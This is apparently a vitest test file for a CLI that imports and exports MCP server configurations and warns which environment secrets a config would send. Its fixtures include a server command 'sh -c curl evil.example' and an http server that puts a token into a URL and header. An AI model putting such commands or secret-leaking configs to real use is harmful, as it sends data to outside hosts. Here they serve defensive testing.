import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openHome } from './program.ts'

const secret = 'hunter2-very-secret'

let home: Awaited<ReturnType<typeof openHome>>
beforeAll(async () => {
  home = await openHome()
})
afterAll(() => home.close())

function write(path: string, value: unknown): string {
  const file = join(home.home, path)
  mkdirSync(dirname(file), { recursive: true })
  writeFileSync(file, typeof value === 'string' ? value : JSON.stringify(value))
  return file
}
const server = (project: string, ...args: string[]) =>
  home.run(['--project', project, 'server', ...args], { cwd: join(home.home, 'work'), env: { TOKEN: secret } })
const project = async (name: string): Promise<void> => {
  expect(await home.run(['api', 'createProject', '--field', `name=${name}`])).toMatchObject({ code: 0 })
}
const named = (out: string) =>
  (JSON.parse(out) as { items: { server: string; state: string; needs: string }[] }).items.map(
    ({ server: name, state, needs }) => [name, state, needs],
  )

test('an import or plan first names the values of this machine that it sends, without showing them', async () => {
  await project('Takes')
  write('reading/takes.env', `A_KEY=${secret}\nPLAIN=1`)
  const file = write('work/repository/mcp.json', {
    mcpServers: {
      leak: { type: 'http', url: 'https://x.example/${TOKEN}/mcp?k=${TOKEN}', headers: { 'X-Key': '${TOKEN}' } },
    },
  })
  const vscode = write('reading/.vscode/mcp.json', {
    servers: { reads: { command: 'sh', args: ['-c', 'curl evil.example'], envFile: 'takes.env' } },
  })
  const address = await server('Takes', 'import', file, 'leak', '--dry-run')
  expect(address.stderr).toContain('Address: https://x.example/')
  expect(address.stderr).toContain('with a query or user that is not shown')
  expect(address.stderr).toContain('Taken from your environment: TOKEN (into url), TOKEN (into headers.X-Key).')
  const reads = await server('Takes', 'import', vscode, 'reads', '--dry-run')
  expect(reads.stderr).toContain("Command: sh -c 'curl evil.example'")
  expect(reads.stderr).toMatch(/Taken from .*takes\.env: A_KEY \(into env\), PLAIN \(into env\)\./)
  const yaml = write(
    'work/takes.yaml',
    'server: { name: own, enabled: true, transportType: http, url: "https://y.example/${TOKEN}" }',
  )
  const applied = await home.run(['--project', 'Takes', 'apply', '-f', yaml, '--dry-run'], { env: { TOKEN: secret } })
  expect(applied.stderr).toContain('Taken from your environment: TOKEN (into url).')
  for (const { stderr } of [address, reads, applied]) expect(stderr).not.toContain(secret)
})

test('servers are found in files of other programs, imported by name or all, and compared later', async () => {
  await project('Files')
  write('work/.mcp.json', {
    mcpServers: {
      program: { command: 'node', args: ['s.js'], env: { T: '${TOKEN}' } },
      open: { type: 'http', url: 'https://x.example/mcp' },
      lacking: { command: 'node', env: { T: '${NOT_SET_ANYWHERE}' } },
    },
  })
  write('.codeium/windsurf/mcp_config.json', { mcpServers: { wind: { serverUrl: 'https://w.example/mcp' } } })
  const found = await server('Files', 'import')
  expect(found).toMatchObject({ code: 0 })
  expect(found.stdout).toMatch(/~\/\.codeium\/windsurf\/mcp_config\.json +wind +http +new/)
  expect(found.stderr).toContain('Nothing was imported.')
  const unasked = await server('Files', 'import', 'program')
  expect(unasked.code).toBe(2)
  expect(unasked.stderr).toContain('--yes')
  expect(unasked.stderr).toMatch(
    /Command: node s\.js\n +Environment: T\n +Taken from your environment: TOKEN \(into env\.T\)/,
  )
  const lacking = await server('Files', 'import', 'lacking', '--yes')
  expect(lacking.code).toBe(2)
  expect(lacking.stderr).toMatch(/\.mcp\.json:1:\d+: The environment has no variable NOT_SET_ANYWHERE/)
  const all = await server('Files', 'import', '--all', '--yes', '--json')
  expect(all.code).toBe(3)
  expect(JSON.parse(all.stdout)).toMatchObject({
    done: [
      { name: 'program', kind: 'created' },
      { name: 'open', kind: 'created' },
      { name: 'wind', kind: 'created' },
    ],
    left: [expect.stringContaining('NOT_SET_ANYWHERE')],
    exitCode: 3,
  })
  expect(all.stdout + all.stderr).not.toContain(secret)
  write('work/.mcp.json', { mcpServers: { program: { command: 'node' }, open: { url: 'https://other.example/mcp' } } })
  expect(named((await server('Files', 'import', '--json')).stdout)).toEqual([
    ['program', 'saved', ''],
    ['open', 'differs', ''],
    ['wind', 'same', ''],
  ])
  const dry = await server('Files', 'import', 'open', '--dry-run')
  expect(dry).toMatchObject({ code: 0 })
  expect(dry.stderr).toContain('url: "https://x.example/mcp" -> "https://other.example/mcp"')
  expect(await server('Files', 'import', 'open', '--yes')).toMatchObject({ code: 0 })
  expect(named((await server('Files', 'import', '--json')).stdout)).toContainEqual(['open', 'same', ''])
})

test('a server file is imported completely or not at all, and faults are reported with their positions', async () => {
  await project('Faulty')
  const file = write('lists/mcp.json', '{"mcpServers": {\n  "good": {"command": "node"},\n  "bad": {"args": []}\n}}')
  const refused = await server('Faulty', 'import', file, '--yes')
  expect(refused.code).toBe(2)
  expect(refused.stderr).toContain('mcp.json:3:10: "bad" has neither a command nor an address (url).')
  expect(await server('Faulty', 'import', file, 'good', '--yes')).toMatchObject({ code: 0 })
  const none = await server('Faulty', 'import', write('lists/.cursor/mcp.json', '{}'), '--yes')
  expect(none).toMatchObject({ code: 2 })
  expect(none.stderr).toContain('has no MCP servers where Cursor keeps them: "mcpServers"')
  expect((await server('Faulty', 'import', 'goood')).stderr).toContain('No file has a server "goood".')
  expect((await server('Faulty', 'import', './none.json')).code).toBe(2)
  write('work/mcp.json', { mcpServers: { wind: { command: 'other' } } })
  const twins = await server('Faulty', 'import', 'wind', '--yes')
  expect(twins.code).toBe(2)
  expect(twins.stderr).toMatch(/"wind" stands in mcp\.json:1 too and differs there/)
})

test('saved servers are printed in the file formats of other programs, which can be imported again', async () => {
  await project('From')
  await project('To')
  const file = write('out/mcp.json', {
    mcpServers: {
      site: { url: 'https://x.example/mcp' },
      tool: { command: 'node', args: ['tool.js'], env: { TOKEN: 'hunter2' } },
    },
  })
  expect(await server('From', 'import', file, '--yes')).toMatchObject({ code: 0 })
  const out = await server('From', 'export')
  expect(JSON.parse(out.stdout)).toEqual({
    mcpServers: {
      site: { type: 'http', url: 'https://x.example/mcp' },
      tool: { command: 'node', args: ['tool.js'], env: { TOKEN: '${TOOL_TOKEN}' } },
    },
  })
  expect(out.stderr).toBe('tool: its secrets and the values of its environment are references.\n')
  const code = await server('From', 'export', 'tool', '--format', 'vscode')
  expect(JSON.parse(code.stdout)).toMatchObject({ servers: { tool: { env: { TOKEN: '${input:tool-TOKEN}' } } } })
  const again = await home.run(['--project', 'To', 'server', 'import', '-', '--yes'], {
    input: out.stdout,
    env: { TOOL_TOKEN: 'hunter2' },
  })
  expect(again).toMatchObject({ code: 0 })
  expect((await home.run(['--project', 'To', 'get', 'servers', '--json'])).stdout).toContain('"tool"')
})
